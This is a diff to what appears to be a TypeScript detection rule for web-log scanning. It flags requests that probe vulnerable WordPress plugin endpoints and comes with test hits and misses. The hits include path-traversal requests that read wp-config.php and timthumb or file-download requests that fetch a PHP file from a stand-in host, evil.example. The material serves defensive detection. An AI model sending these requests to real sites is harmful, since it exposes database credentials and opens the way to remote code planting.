@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -29,6 +30,7 @@ export default defineRule({
       '/bricks/v1/',
       'duplicator',
       '/batch/v1',
+      '/pmpro/v1/',
       'wp_automatic',
       'wpdiscuz-ajax',
       'ait-csv',
@@ -64,7 +66,6 @@ export default defineRule({
       'wc_help_scout',
       'hurraki_tooltip',
       'workreap',
-      'wp-fileupload',
       'reflex-gallery',
       'asset-manager',
       'pie_register',
@@ -73,7 +74,7 @@ export default defineRule({
     ],
   ],
   match:
-    /action=(?:revslider_(?:show_image|ajax_action)|duplicator_download|um_get_members|formcraft3_get|wc_help_scout_upload_attachments|hurraki_tooltip_proxy|workreap_award_temp_file_uploader|aam-media-load|eventon_ics_download)|\/wp-file-manager\/lib\/php\/connector|\/wp-automatic\/inc\/csv\.php|wp_automatic=download|\/(?:tim)?thumb\.php\?(?:[^\n]{0,100}&)?src=https?:\/\/|\/bricks\/v1\/render_element|rest_route=\/(?:batch\/v1|wp\/v2\/users|bricks\/|pmpro\/v1\/order)|\/wp-json\/batch\/v1|\/wpdiscuz-ajax\.php|\/ait-csv-import-export\/admin\/upload-handler|\/backup-backup\/includes\/backup-heart\.php|\/simple-file-list\/ee-(?:upload|file)-engine\.php|\/wp-content\/(?:plugins|themes)\/[\w-]{1,60}\/[\w./-]{0,100}(?:force-?download|get_remote_data|file[-_]?download|upload(?:s|er|ify|[-_]file)?|file-?upload|proxy|ajax[-_]?upload)\.php(?:$|\?)/i,
+    /action=(?:revslider_(?:show_image|ajax_action)|duplicator_download|um_get_members|formcraft3_get|wc_help_scout_upload_attachments|hurraki_tooltip_proxy|workreap_award_temp_file_uploader|aam-media-load|eventon_ics_download)|\/wp-file-manager\/lib\/php\/connector|\/wp-automatic\/inc\/csv\.php|wp_automatic=download|\/(?:tim)?thumb\.php\?(?:[^\n]{0,100}&)?src=https?:\/\/|\/bricks\/v1\/render_element|rest_route=\/(?:batch\/v1|bricks\/v1\/|pmpro\/v1\/order)|\/wp-json\/batch\/v1|\/wpdiscuz-ajax\.php|\/ait-csv-import-export\/admin\/upload-handler|\/backup-backup\/includes\/backup-heart\.php|\/simple-file-list\/ee-(?:upload|file)-engine\.php|\/wp-content\/(?:plugins|themes)\/[\w-]{1,60}\/[\w./-]{0,100}(?:force-?download|get_remote_data|file[-_]?download|upload(?:s|er|ify|[-_]file)?|file-?upload|proxy|ajax[-_]?upload)\.php(?:$|\?)/i,
 
   hits: [
     'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php HTTP/1.1',
@@ -81,6 +82,37 @@ export default defineRule({
     'POST /wp-json/bricks/v1/render_element HTTP/1.1',
     'GET /wp-content/themes/x/timthumb.php?src=http://evil.example/a.php HTTP/1.1',
     'GET /wp-content/plugins/x/lib/force-download.php?f=a HTTP/1.1',
+    ...each(
+      'GET /wp-admin/admin-ajax.php?action={}&img=../wp-config.php HTTP/1.1',
+      `duplicator_download um_get_members formcraft3_get wc_help_scout_upload_attachments
+    hurraki_tooltip_proxy workreap_award_temp_file_uploader aam-media-load eventon_ics_download`,
+    ),
+    'GET /wp-admin/admin-ajax.php?action=revslider_ajax_action&img=../wp-config.php HTTP/1.1',
+    'GET /wp-content/themes/x/lib/force-download.php?f=a HTTP/1.1',
+    ...each(
+      'GET /wp-content/plugins/x/lib/{}.php?f=a HTTP/1.1',
+      'get_remote_data filedownload upload proxy',
+    ),
+    ...each(
+      'POST /{} HTTP/1.1',
+      `wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php ?wp_automatic=download&link=a
+    ?rest_route=/batch/v1 ?rest_route=/bricks/v1/a ?rest_route=/pmpro/v1/order
+    wp-json/batch/v1 wpdiscuz-ajax.php ait-csv-import-export/admin/upload-handler.php
+    backup-backup/includes/backup-heart.php simple-file-list/ee-upload-engine.php simple-file-list/ee-file-engine.php`,
+    ),
+    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../revslider HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=duplicator_download&img=../duplicator HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=formcraft3_get&img=../formcraft3 HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=um_get_members&img=../um_get_members HTTP/1.1',
+    ...each(
+      'GET /wp-content/plugins/x/lib/{}?f=a HTTP/1.1',
+      'forcedownload.php uploads.php uploadify.php uploader.php upload-file.php upload_file.php',
+    ),
+    'GET /wp-content/themes/x/file-download.php?src=http://evil.example/a.php HTTP/1.1',
+    'GET /wp-content/themes/x/file_download.php?src=http://evil.example/a.php HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=wc_help_scout_upload_attachments&img=../wc_help_scout HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=hurraki_tooltip_proxy&img=../hurraki_tooltip HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=workreap_award_temp_file_uploader&img=../workreap HTTP/1.1',
   ],
   misses: [
     'GET /wp-admin/admin-ajax.php?action=heartbeat HTTP/1.1',
@@ -88,5 +120,10 @@ export default defineRule({
     'GET /wp-json/wp/v2/posts HTTP/1.1',
     'GET /wp-content/plugins/files/download.php?id=3 HTTP/1.1',
     'GET /wp-content/themes/x/timthumb.php?src=/img/a.jpg HTTP/1.1',
+    {
+      request: 'GET /style.css HTTP/1.1',
+      referrer:
+        'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+    },
   ],
 })
